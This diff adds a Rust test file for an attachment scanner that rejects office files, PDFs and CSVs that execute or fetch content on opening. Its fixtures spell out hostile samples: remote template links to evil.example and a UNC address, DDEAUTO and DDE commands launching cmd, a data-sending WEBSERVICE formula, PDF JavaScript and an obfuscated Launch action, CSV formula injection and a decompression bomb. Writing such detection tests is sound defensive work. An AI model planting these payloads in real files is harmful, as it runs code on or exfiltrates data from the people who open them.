@@ -1,0 +1,124 @@
+//! Files that do something by themselves when they are opened.
+
+use plan::attachments::{Checked, MediaType};
+use plan::fault::Fault;
+
+use crate::attachments::{archive, examined, key, pdf, sample};
+
+/// The key of what is wrong, or `ok`.
+fn said(found: Result<Checked, Fault>) -> &'static str {
+    if found.is_ok() { "ok" } else { key(found) }
+}
+
+/// An office file of a kind with parts beside its main one.
+fn with(kind: MediaType, parts: &[(&str, &str)]) -> Vec<u8> {
+    let types =
+        format!(r#"<Types><Override PartName="/x.xml" ContentType="{}.main+xml"/></Types>"#, kind.name());
+    let first = match kind {
+        MediaType::Docx | MediaType::Xlsx | MediaType::Pptx => ("[Content_Types].xml", types.as_str()),
+        _ => ("mimetype", kind.name()),
+    };
+    archive(&[&[first], parts].concat())
+}
+
+#[test]
+fn nothing_that_runs_or_fetches_something_when_it_is_opened_is_attached() {
+    use MediaType::{Docx, Odp, Ods, Odt, Pdf, Pptx, Xlsx};
+    let relation = |kind: &str, target: &str| {
+        format!(
+            r#"<Relationships><Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>"#
+        )
+    };
+    let template = relation("attachedTemplate", "https://evil.example/mall.dotm");
+    let server = relation("attachedTemplate", "file:///\\\\192.0.2.1\\m\\mall.dotx");
+    let own = relation("attachedTemplate", "file:///\\\\filserver\\mallar\\Protokoll.dotx");
+    let link = relation("hyperlink", "https://kommun.example/");
+    let split = r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>
+        <w:r><w:instrText>EAU&#84;O cmd "/c calc"</w:instrText></w:r></w:p>"#;
+    let page = r#"<w:p><w:r><w:instrText> PAGE \* MERGEFORMAT </w:instrText></w:r></w:p>"#;
+    for (kind, parts, why) in [
+        (Docx, ("word/_rels/settings.xml.rels", template.as_str()), "file-remote"),
+        (Docx, ("word/_rels/settings.xml.rels", &server), "file-remote"),
+        (Docx, ("word/_rels/settings.xml.rels", &own), "ok"),
+        (Docx, ("word/_rels/document.xml.rels", &link), "ok"),
+        (Docx, ("word/embeddings/oleObject1.bin", "x"), "file-embedded"),
+        (Docx, ("word/document.xml", split), "file-command"),
+        (Docx, ("word/document.xml", page), "ok"),
+        (Docx, ("word/document.xml", r#"<w:fldSimple w:instr="DDE x y"/>"#), "file-command"),
+        (Docx, ("word/document.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"), "file-unlike"),
+        (Docx, ("word/afchunk.mht", "x"), "file-embedded"),
+        (Docx, ("word/activeX/activeX1.xml", "<x/>"), "file-macros"),
+        (
+            Xlsx,
+            (
+                "xl/externalLinks/externalLink1.xml",
+                r#"<externalLink><ddeLink ddeService="cmd"/></externalLink>"#,
+            ),
+            "file-command",
+        ),
+        (
+            Xlsx,
+            ("xl/worksheets/sheet1.xml", r#"<c><f>_xlfn.WEBSERVICE("http://x"&amp;A1)</f></c>"#),
+            "file-command",
+        ),
+        (Xlsx, ("xl/worksheets/sheet1.xml", "<c><f>SUM(A1:A2)</f></c>"), "ok"),
+        (Xlsx, ("xl/connections.xml", "<connections><connection id='1'/></connections>"), "file-remote"),
+        (Xlsx, ("xl/printerSettings/printerSettings1.bin", "x"), "ok"),
+        (Pptx, ("ppt/slides/slide1.xml", r#"<a:hlinkClick action="ppaction://program"/>"#), "file-command"),
+        (Odt, ("Basic/Standard/Module1.xml", "<x/>"), "file-macros"),
+        (Odt, ("content.xml", "<office:scripts><script:event-listener/></office:scripts>"), "file-macros"),
+        (Odt, ("content.xml", "<office:scripts/>"), "ok"),
+        (Odt, ("content.xml", r#"<draw:image xlink:href="https://evil.example/x.png"/>"#), "file-remote"),
+        (Odt, ("content.xml", r#"<text:a xlink:href="https://kommun.example/">x</text:a>"#), "ok"),
+        (Odt, ("content.xml", r#"<draw:object-ole xlink:href="./Object 1"/>"#), "file-embedded"),
+        (
+            Ods,
+            ("content.xml", r#"<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>"#),
+            "file-command",
+        ),
+        (Ods, ("content.xml", "<table:dde-link/>"), "file-command"),
+        (Odp, ("content.xml", "<draw:applet/>"), "file-embedded"),
+    ] {
+        let found = examined(&format!("a.{}", kind.ending()), with(kind, &[parts]));
+        assert_eq!(said(found), why, "{kind}: {parts:?}");
+    }
+    for (objects, why) in [
+        ("3 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n", "file-macros"),
+        ("3 0 obj\n<</A<</S/L#61unch/F(cmd.exe)>>>>\nendobj\n", "file-command"),
+        ("3 0 obj\n<</Names[<</J#53(x)>>]>>\nendobj\n", "file-macros"),
+        ("3 0 obj\n<</Type/Filespec/EF<</F 4 0 R>>>>\nendobj\n", "file-embedded"),
+        ("3 0 obj\n<</AcroForm<</XFA[]>>>>\nendobj\n", "file-macros"),
+        ("3 0 obj\n<</S/GoToR/F(\\\\\\\\192.0.2.1\\\\x)>>\nendobj\n", "file-remote"),
+        ("3 0 obj\n<</S/URI/URI(https://kommun.example)>>\nendobj\n", "ok"),
+        ("3 0 obj\n<</S/GoTo/D[1 0 R/Fit]>>\nendobj\n", "ok"),
+        ("3 0 obj\n<</S/Transparency/Type/Group>>\nendobj\n", "ok"),
+    ] {
+        let found = examined(&format!("a.{}", Pdf.ending()), pdf(objects));
+        assert_eq!(said(found), why, "{objects}");
+    }
+    assert_eq!(key(examined("a.csv", b"namn;v\xe4rde\r\nx;=cmd|' /C calc'!A0\r\n".to_vec())), "file-command");
+    assert_eq!(key(examined("a.pdf", b"%PDF-1.7\n%%EOF\n".to_vec())), "file-pdf-unreadable");
+}
+
+#[test]
+fn files_in_files_are_examined_too() {
+    let evil = with(MediaType::Xlsx, &[("xl/vbaProject.bin", "x")]);
+    let inner = |bytes: &[u8]| {
+        let types = format!(
+            r#"<Types><Override PartName="/x.xml" ContentType="{}.main+xml"/></Types>"#,
+            MediaType::Docx.name()
+        );
+        let parts = [
+            ("[Content_Types].xml", types.as_bytes()),
+            ("word/embeddings/Microsoft_Excel_Sheet.xlsx", bytes),
+        ];
+        archive(&parts)
+    };
+    assert_eq!(key(examined("a.docx", inner(&evil))), "file-macros");
+    assert!(examined("a.docx", inner(&sample(MediaType::Xlsx))).is_ok());
+    let bomb = "0".repeat(200_000_000);
+    assert_eq!(
+        key(examined("a.docx", with(MediaType::Docx, &[("word/document.xml", &bomb)]))),
+        "file-packed"
+    );
+}
